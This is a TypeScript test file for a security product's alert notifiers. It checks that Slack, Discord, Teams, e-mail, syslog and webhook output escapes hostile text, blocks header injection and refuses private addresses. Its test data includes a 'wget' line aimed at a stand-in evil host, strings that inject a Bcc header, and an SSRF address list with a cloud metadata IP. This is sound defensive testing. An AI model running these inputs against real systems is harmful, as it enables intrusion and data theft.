/** Nothing that an attacker wrote is obeyed by a medium: one test a medium, in its own terms. */
import { createHmac } from 'node:crypto';
import type { Notification } from '@netsentinel/contracts/notification';
import { ManualClock } from '@netsentinel/kernel/clock';
import { silentLogger } from '@netsentinel/kernel/log';
import { HOSTILE_TEXTS, hostileNotification, notificationFixture } from '@netsentinel/testkit/contracts/notifier.suite';
import { httpReceiver } from '@netsentinel/testkit/fake-http-receiver';
import { fakeSmtp } from '@netsentinel/testkit/fake-smtp';
import { describe, expect, it, onTestFinished } from 'vitest';
import { discordMessage } from './discord/discord.notifier.ts';
import { mailHtml } from './email/html.ts';
import { emailNotifier } from './email/email.notifier.ts';
import { ntfyMessage } from './ntfy/ntfy.notifier.ts';
import { pagerdutyEvent } from './pagerduty/pagerduty.notifier.ts';
import { slackMessage } from './slack/slack.notifier.ts';
import { syslogMessage } from './syslog/message.ts';
import { teamsMessage } from './teams/teams.notifier.ts';
import { checkTemplate, render } from './webhook/template.ts';
import { webhookNotifier } from './webhook/webhook.notifier.ts';
import { factsOf, fitBytes, headline, plainText } from './words.ts';

const ALL = [...HOSTILE_TEXTS, '&<>"\'&&&&<<<<', '``````[x](http://a.b)', '://', 'x'.repeat(600)];
const ctx = { name: 'test', clock: new ManualClock(Date.UTC(2026, 10, 21)), log: silentLogger };
const each = (work: (hostile: Notification) => void): void => ALL.forEach((text) => work(hostileNotification(text)));

/** Every text in a JSON document that stands under one of these keys. */
function textsUnder(value: unknown, keys: readonly string[]): string[] {
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, inner]) =>
    typeof inner === 'string' ? (keys.includes(key) ? [inner] : []) : textsUnder(inner, keys),
  );
}

describe('words', () => {
  it('are lines without controls, links or invisible characters', () => {
    each((hostile) => {
      const text = plainText(hostile);
      expect(text).not.toMatch(
        /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]/,
      );
      expect(text.replace(/^Open: .*$/m, '')).not.toMatch(/:\/\/|evil\.example/);
      expect(text.isWellFormed()).toBe(true);
      expect(plainText(hostile, 500).length).toBeLessThanOrEqual(500);
      expect(plainText(hostile, 500)).toContain('Open: https://console.example.com/incident/?id=inc-1');
    });
    expect(headline(notificationFixture())).toBe('[HIGH] SSH break-in from 203.0.113.7, logged in as root');
    expect(factsOf(notificationFixture({ who: ['wget www.evil.example/x.sh'] }))[1]!.lines[0]).toBe(
      'wget www[.]evil[.]example/x[.]sh',
    );
    const links = [
      ['evil.xn--p1ai', 'evil[.]xn--p1ai'],
      ['пример.рф/x', 'пример[.]рф/x'],
      ['例え。テスト', '例え[.]テスト'],
      ['evil．example', 'evil[.]example'],
      ['net use \\\\198.51.100.7\\x', 'net use [\\\\]198.51.100.7\\x'],
      ['C:\\\\Users', 'C:\\\\Users'],
      ['a\u061cb\u2028c', 'a\\u{61c}b\\u{2028}c'],
      ['10.0.0.1 a.b 2.5', '10.0.0.1 a.b 2.5'],
    ] as const;
    for (const [wrote, shown] of links)
      expect(factsOf(notificationFixture({ who: [wrote] }))[1]!.lines).toEqual([shown]);
    expect(Buffer.byteLength(fitBytes('ä💀'.repeat(100), 31))).toBeLessThanOrEqual(31);
    expect(fitBytes('ä💀'.repeat(100), 31)).not.toContain('\ufffd');
  });

  it('tell how many a digest stands for, and the worst of them', () => {
    const digest = {
      count: 41,
      bySeverity: { critical: 1, high: 40 },
      listed: [{ incident: 'i1', severity: 'critical' as const, title: 'A break-in' }],
    };
    const text = plainText(notificationFixture({ kind: 'digest', digest }));
    expect(text).toContain('41 messages: 1 critical, 40 high');
    expect(text).toContain('[CRITICAL] A break-in (i1)');
    expect(text).toContain('40 more');
  });
});

it('Slack: every text is plain, its three characters are escaped, its lengths are kept', () => {
  each((hostile) => {
    const message = slackMessage(hostile);
    for (const text of textsUnder(message, ['text'])) {
      expect(text).not.toMatch(/[<>]|&(?!amp;|lt;|gt;)/);
      expect(text.length).toBeLessThanOrEqual(3000);
    }
    expect(JSON.stringify(message)).not.toContain('"mrkdwn"}');
    const { blocks } = message as { blocks: { type: string; text?: { type: string; text: string; emoji: boolean } }[] };
    expect(blocks.length).toBeLessThanOrEqual(50);
    for (const { type, text } of blocks) {
      const { type: textType = 'plain_text', emoji = false, text: shown = '' } = text ?? {};
      expect({ textType, emoji }).toEqual({ textType: 'plain_text', emoji: false });
      expect(shown.length).toBeLessThanOrEqual(type === 'header' ? 150 : 3000);
    }
    expect(message).toMatchObject({ parse: 'none', link_names: false, mrkdwn: false, unfurl_links: false });
  });
});

it('Teams: every text is a TextRun, which knows no Markdown, and the message fits', () => {
  each((hostile) => {
    const message = teamsMessage(hostile);
    expect(Buffer.byteLength(JSON.stringify(message))).toBeLessThanOrEqual(28 * 1024);
    const { attachments } = message as {
      attachments: { content: { body: { type: string; inlines: { type: string }[] }[]; version: string } }[];
    };
    const [{ content }] = attachments as [(typeof attachments)[number]];
    for (const { type, inlines } of content.body) {
      expect(type).toBe('RichTextBlock');
      expect(inlines.every((run) => run.type === 'TextRun')).toBe(true);
    }
    expect(JSON.stringify(message)).not.toContain('"entities"');
  });
});

it('Discord: nobody is called, markup is escaped, its lengths are kept', () => {
  each((hostile) => {
    const message = discordMessage(hostile) as {
      allowed_mentions: unknown;
      embeds: { title: string; fields: { name: string; value: string }[]; footer: { text: string } }[];
    };
    expect(message.allowed_mentions).toEqual({ parse: [] });
    const [embed] = message.embeds;
    const { title, fields, footer } = embed!;
    expect(title.length).toBeLessThanOrEqual(256);
    expect(fields.length).toBeLessThanOrEqual(25);
    const texts = [title, ...fields.map(({ value }) => value)];
    for (const text of texts) {
      expect(text.length).toBeLessThanOrEqual(1024);
      expect(text).not.toMatch(/@(?!\u200b)|(?<!\\)[`*_~|<>[\]]/);
    }
    const total = texts.join('').length + fields.map(({ name }) => name).join('').length + footer.text.length;
    expect(total).toBeLessThanOrEqual(6000);
  });
});

it('PagerDuty: triggers, acknowledges and resolves one alert of theirs for an incident', () => {
  const key = 'k'.repeat(32);
  each((hostile) => {
    const event = pagerdutyEvent(hostile, key) as { payload: { summary: string; source: string }; dedup_key: string };
    expect(event.payload.summary.length).toBeLessThanOrEqual(1024);
    expect(event.dedup_key).toBe('netsentinel-inc-1');
  });
  expect(pagerdutyEvent(notificationFixture({ severity: 'critical' }), key)).toMatchObject({
    routing_key: key,
    event_action: 'trigger',
    payload: {
      severity: 'critical',
      source: '203.0.113.7 (NL)',
      custom_details: { Techniques: 'T1110.001 Password Guessing' },
    },
    links: [{ href: 'https://console.example.com/incident/?id=inc-1' }],
  });
  for (const [kind, action] of [
    ['acknowledged', 'acknowledge'],
    ['resolved', 'resolve'],
  ] as const)
    expect(pagerdutyEvent(notificationFixture({ kind }), key)).toEqual({
      routing_key: key,
      event_action: action,
      dedup_key: 'netsentinel-inc-1',
    });
});

it('ntfy: no Markdown, no attachment', () => {
  each((hostile) => {
    const message = ntfyMessage(hostile, 'alerts');
    expect(Buffer.byteLength(message['message'] as string)).toBeLessThanOrEqual(4096);
    expect(Object.keys(message).toSorted()).toEqual(['click', 'message', 'priority', 'tags', 'title', 'topic']);
  });
});

it('syslog: one line, with structured data that ends where it should', () => {
  const origin = { facility: 'authpriv', host: 'gate way\n', pid: 7, maxBytes: 2048 } as const;
  each((hostile) => {
    const line = syslogMessage({ ...hostile, id: hostile.title.slice(0, 64) }, origin);
    expect(Buffer.byteLength(line)).toBeLessThanOrEqual(2048);
    expect(line).not.toContain('\n');
    expect(line).toMatch(
      /^<83>1 2026-11-21T09:30:00\.000Z gateway netsentinel 7 opened \[netsentinel@32473 (?:\w+="(?:[^\\"\]]|\\[\\"\]])*" ?)+\] \ufeff\[HIGH\] /u,
    );
  });
});

describe('e-mail', () => {
  it('escapes all of the HTML, which loads nothing', () => {
    each((hostile) => {
      const html = mailHtml(hostile);
      const tags = [...html.matchAll(/<\/?([a-z!][a-z0-9]*)/gi)].map((match) => match[1]!.toLowerCase());
      expect([...new Set(tags)].toSorted()).toEqual([
        '!doctype',
        'a',
        'body',
        'br',
        'div',
        'h1',
        'head',
        'html',
        'meta',
        'p',
        'table',
        'td',
        'tr',
      ]);
      const inside = (html.match(/<[^>]*>/g) ?? []).join('');
      expect(inside).not.toMatch(/src=|url\(|\son\w+=|javascript:/i);
      expect([...html.matchAll(/href="([^"]*)"/g)].map((match) => match[1])).toEqual([
        'https://console.example.com/incident/?id=inc-1',
      ]);
    });
  });

  const send = async (
    smtp: Parameters<typeof fakeSmtp>[0],
    changes: Record<string, unknown>,
    notification = notificationFixture(),
  ) => {
    const server = await fakeSmtp(smtp);
    onTestFinished(() => server.close());
    const options = emailNotifier.config.parse({
      host: 'localhost',
      port: server.port,
      from: 'netsentinel@example.com',
      to: ['ops@example.com', 'night@example.com'],
      ca: { value: server.ca },
      ...changes,
    });
    const outcome = await emailNotifier.create(ctx, options).send(notification);
    return { outcome, mails: server.mails };
  };

  it('lets no header in', async () => {
    for (const text of ['a\r\nBcc: victim@example.com\r\n\r\nhello', 'x\nSubject: y']) {
      const { mails } = await send({}, {}, hostileNotification(text));
      const [mail] = mails;
      expect(mail!.to).toEqual(['ops@example.com', 'night@example.com']);
      const head = mail!.raw.slice(0, mail!.raw.indexOf('\r\n\r\n'));
      const names = [...head.matchAll(/^([A-Za-z-]+):/gm)].map((match) => match[1]!.toLowerCase());
      expect(names).not.toContain('bcc');
      expect(names.filter((name) => name === 'subject')).toHaveLength(1);
      expect(names).toEqual(expect.arrayContaining(['message-id', 'in-reply-to', 'references', 'auto-submitted']));
    }
  });

  it('logs in over STARTTLS, and over TLS from the start, and never in the clear', async () => {
    const login = { user: 'netsentinel', password: 's3cret' };
    const auth = { user: login.user, password: { value: login.password } };
    for (const [implicit, tls] of [
      [false, 'starttls'],
      [true, 'implicit'],
    ] as const) {
      const { outcome, mails } = await send({ login, implicit }, { ...auth, tls });
      expect(outcome).toMatchObject({ ok: true, answer: expect.stringContaining('250') as string });
      expect(mails[0]).toMatchObject({ user: 'netsentinel', secure: true });
    }
    const wrong = await send({ login }, { ...auth, password: { value: 'wrong' } });
    expect(wrong.outcome).toMatchObject({ ok: false, retry: false, answer: expect.stringContaining('535') as string });
    expect(JSON.stringify(wrong.outcome)).not.toContain('wrong"');
    const untrusted = await send({ login }, { ...auth, ca: undefined });
    expect(untrusted.outcome).toMatchObject({ ok: false, retry: true });
    expect(untrusted.mails).toEqual([]);
  });

  it('tries again what may pass, and not what is refused for good', async () => {
    const busy = await send({ refuse: { code: 451, text: 'try later' } }, {});
    expect(busy.outcome).toMatchObject({ ok: false, retry: true });
    const no = await send({ refuse: { code: 554, text: 'no' } }, {});
    expect(no.outcome).toMatchObject({ ok: false, retry: false });
  });
});

describe('the webhook', () => {
  it('signs as Standard Webhooks has it', async () => {
    const server = await httpReceiver();
    onTestFinished(() => server.close());
    const key = Buffer.from('0123456789abcdef0123456789abcdef');
    const options = webhookNotifier.config.parse({
      url: server.url,
      secret: { value: `whsec_${key.toString('base64')}` },
      authorization: { value: 'Bearer t' },
      headers: { 'X-Team': 'blue' },
      allowPrivate: true,
    });
    await webhookNotifier.create(ctx, options).send(notificationFixture());
    const [{ headers, body }] = server.posted as [(typeof server.posted)[number]];
    const signed = `${String(headers['webhook-id'])}.${String(headers['webhook-timestamp'])}.${body}`;
    expect(headers['webhook-signature']).toBe(`v1,${createHmac('sha256', key).update(signed).digest('base64')}`);
    expect(headers['webhook-timestamp']).toBe(String(Date.UTC(2026, 10, 21) / 1000));
    expect(headers).toMatchObject({ 'webhook-id': 'a1b2c3', authorization: 'Bearer t', 'x-team': 'blue' });
    expect(JSON.parse(body)).toEqual(notificationFixture());
  });

  it('fills a template in which no value leaves its string', () => {
    const template = '{"t": "{{title}}", "all": {{json message}}, "n": {{ json score }}, "x": "{{text}} {{url}}"}';
    expect(checkTemplate(template, 'application/json')).toBeUndefined();
    each((hostile) => {
      const value = JSON.parse(render(template, 'application/json', hostile)) as { t: string; n: number };
      expect(value).toMatchObject({
        t: hostile.title.toWellFormed() === hostile.title ? hostile.title : value.t,
        n: 81,
      });
    });
    expect(render('{{severity}}: {{title}}', 'text/plain', notificationFixture())).toMatch(/^high: SSH break-in/);
  });
});

describe('whatever is posted', () => {
  const post = async (answer: Parameters<typeof httpReceiver>[0], changes: Record<string, unknown> = {}) => {
    const server = await httpReceiver(answer);
    onTestFinished(() => server.close());
    const options = webhookNotifier.config.parse({ url: server.url, allowPrivate: true, ...changes });
    return { outcome: await webhookNotifier.create(ctx, options).send(notificationFixture()), server };
  };

  it('follows no redirect, and tells what may pass from what will not', async () => {
    const elsewhere = await httpReceiver();
    onTestFinished(() => elsewhere.close());
    const { outcome } = await post(() => ({ status: 307, headers: { location: elsewhere.url } }));
    expect(outcome).toMatchObject({ ok: false, retry: false, answer: expect.stringContaining('redirect') as string });
    expect(elsewhere.posted).toEqual([]);
    for (const [status, retry] of [
      [400, false],
      [404, false],
      [408, true],
      [429, true],
      [500, true],
      [503, true],
    ] as const)
      expect((await post(() => ({ status, body: 'no\u001b[2J' }))).outcome).toEqual({
        ok: false,
        retry,
        answer: `HTTP ${status}: no\\u{1b}[2J`,
      });
    expect((await post(() => ({ status: 429, headers: { 'retry-after': '120' } }))).outcome).toMatchObject({
      retryAfterMs: 120_000,
    });
    expect((await post(() => ({ status: 503, headers: { 'retry-after': '9999999' } }))).outcome).toMatchObject({
      retryAfterMs: 3_600_000,
    });
  });

  it('reads no more of an answer than is shown', async () => {
    const { outcome } = await post(() => ({ status: 200, body: 'x'.repeat(5_000_000) }));
    expect(outcome).toMatchObject({ ok: true });
    expect(outcome.answer.length).toBeLessThan(300);
  });

  it('reaches no private address unless that is allowed, by number or by name', async () => {
    const server = await httpReceiver();
    onTestFinished(() => server.close());
    const { port } = new URL(server.url);
    for (const host of [
      '127.0.0.1',
      '[::1]',
      '[::ffff:127.0.0.1]',
      '0.0.0.0',
      '169.254.169.254',
      '10.0.0.1',
      'localhost',
      '2130706433',
      '0x7f.1',
    ]) {
      const options = webhookNotifier.config.parse({ url: `http://${host}:${port}/hook` });
      const outcome = await webhookNotifier.create(ctx, options).send(notificationFixture());
      expect({ host, ...outcome }).toMatchObject({
        host,
        ok: false,
        retry: false,
        answer: expect.stringContaining('public address') as string,
      });
    }
    expect(server.posted).toEqual([]);
  });
});
